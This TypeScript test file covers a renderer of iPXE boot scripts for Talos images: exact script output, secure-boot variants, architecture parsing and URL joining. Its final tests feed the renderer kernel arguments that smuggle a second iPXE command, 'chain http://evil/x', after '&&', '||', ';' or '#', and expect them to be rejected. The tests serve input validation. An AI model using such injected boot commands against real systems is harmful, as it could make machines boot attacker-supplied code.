import { describe, expect, test } from 'bun:test'
import { joinUrlPath, parsePxePath, pxeCmdlineAssetPath, renderPxeScript } from '../../src/asset/pxe.ts'
import { parseAssetPath } from '../../src/asset/path.ts'
import { buildCmdline } from '../../src/talos/cmdline.ts'

const ID = '376567988ad370138ad8b2698212367b8edcb69b5fd68c80be1f2ec7d603b4ba'
const METAL_1_11 = 'talos.platform=metal console=tty0 init_on_alloc=1 slab_nomerge pti=on consoleblank=0 nvme_core.io_timeout=4294967295 printk.devkmsg=on selinux=1'

describe('iPXE scripts (factory-spec §7)', () => {
  test('standard script, exact bytes', () => {
    const script = renderPxeScript({ baseUrl: 'http://localhost:8080', schematicId: ID, versionTag: 'v1.11.0', platform: 'metal', arch: 'amd64', secureboot: false, cmdline: METAL_1_11 })
    expect(script).toBe(
      '#!ipxe\n' +
        '\n' +
        'imgfree\n' +
        `kernel http://localhost:8080/image/${ID}/v1.11.0/kernel-amd64 ${METAL_1_11}\n` +
        `initrd http://localhost:8080/image/${ID}/v1.11.0/initramfs-amd64.xz\n` +
        'boot\n',
    )
  })

  test('secureboot script boots the signed UKI with the cmdline', () => {
    const cmdline = METAL_1_11 + ' lockdown=confidentiality'
    const script = renderPxeScript({ baseUrl: 'https://pxe.example.com', schematicId: ID, versionTag: 'v1.11.0', platform: 'metal', arch: 'amd64', secureboot: true, cmdline })
    expect(script).toBe(`#!ipxe\n\nimgfree\nkernel https://pxe.example.com/image/${ID}/v1.11.0/metal-amd64-secureboot-uki.efi ${cmdline}\nboot\n`)
  })

  test('equinixMetal arm64 with the platform cmdline', () => {
    const cmdline = buildCmdline({ platform: 'equinixMetal', arch: 'arm64', version: 'v1.5.0', outputKind: 'cmdline', secureboot: false })
    expect(cmdline).toBe('talos.platform=equinixMetal console=ttyAMA0,115200 init_on_alloc=1 slab_nomerge pti=on consoleblank=0 nvme_core.io_timeout=4294967295 printk.devkmsg=on ima_template=ima-ng ima_appraise=fix ima_hash=sha512')
    const script = renderPxeScript({ baseUrl: 'http://10.0.0.1:8080', schematicId: ID, versionTag: 'v1.5.0', platform: 'equinixMetal', arch: 'arm64', secureboot: false, cmdline })
    expect(script.split('\n')[3]).toBe(`kernel http://10.0.0.1:8080/image/${ID}/v1.5.0/kernel-arm64 ${cmdline}`)
  })

  test('${buildarch} x86_64 resolves to amd64 in URLs', () => {
    const pa = parsePxePath('metal-x86_64')
    expect(pa).toEqual({ platform: 'metal', arch: 'amd64', secureboot: false })
    expect(parseAssetPath(pxeCmdlineAssetPath('metal-x86_64'))).toMatchObject({ kind: 'cmdline', platform: 'metal', arch: 'amd64' })
    const script = renderPxeScript({ baseUrl: 'http://h', schematicId: ID, versionTag: 'v1.11.0', ...pa, cmdline: 'x' })
    expect(script).toContain(`/kernel-amd64 x\n`)
    expect(script).toContain(`/initramfs-amd64.xz\n`)
  })

  test('invalid PXE paths use the cmdline grammar errors', () => {
    expect(() => parsePxePath('metal')).toThrow('invalid platform-arch: "metal"')
    expect(() => parsePxePath('metal-ppc64')).toThrow('invalid architecture: "ppc64"')
  })
})

describe('joinUrlPath (Go url.JoinPath)', () => {
  test.each([
    ['http://localhost:8080', 'http://localhost:8080/image/a/v1/f'],
    ['http://localhost:8080/', 'http://localhost:8080/image/a/v1/f'],
    ['https://example.com/factory', 'https://example.com/factory/image/a/v1/f'],
    ['https://example.com/factory/', 'https://example.com/factory/image/a/v1/f'],
    ['https://example.com//factory//', 'https://example.com/factory/image/a/v1/f'],
    ['http://host:80', 'http://host:80/image/a/v1/f'],
    ['http://user:pw@host', 'http://user:pw@host/image/a/v1/f'],
  ])('%s', (base, expected) => {
    expect(joinUrlPath(base, 'image', 'a', 'v1', 'f')).toBe(expected)
  })

  test('dot segments in elements are cleaned', () => {
    expect(joinUrlPath('http://h/p', 'image', '..', 'x')).toBe('http://h/p/x')
  })
})

describe('kernel arguments iPXE would not pass through', () => {
  const render = (cmdline: string) =>
    renderPxeScript({ baseUrl: 'http://h', schematicId: ID, versionTag: 'v1.12.0', platform: 'metal', arch: 'amd64', secureboot: false, cmdline })
  test.each([
    ['&&', 'command separator'],
    ['||', 'command separator'],
    [';', 'command separator'],
    ['#x', 'comment'],
    ['#', 'comment'],
  ])('%s → 400 naming the argument (%s)', (token, what) => {
    expect(() => render(`talos.platform=metal ${token} chain http://evil/x`)).toThrow(new RegExp(`${JSON.stringify(token).replace(/[|]/g, '\\|')}.*${what}`))
  })
  test.each(['a&&b', 'x||y', 'a;b', 'a#b', 'talos.config=http://h/c?uuid=${uuid}&mac=${net0/mac}', '-foo', '--autofree'])('%s passes as an argument', (arg) => {
    expect(render(`talos.platform=metal ${arg}`)).toContain(` ${arg}\n`)
  })
})
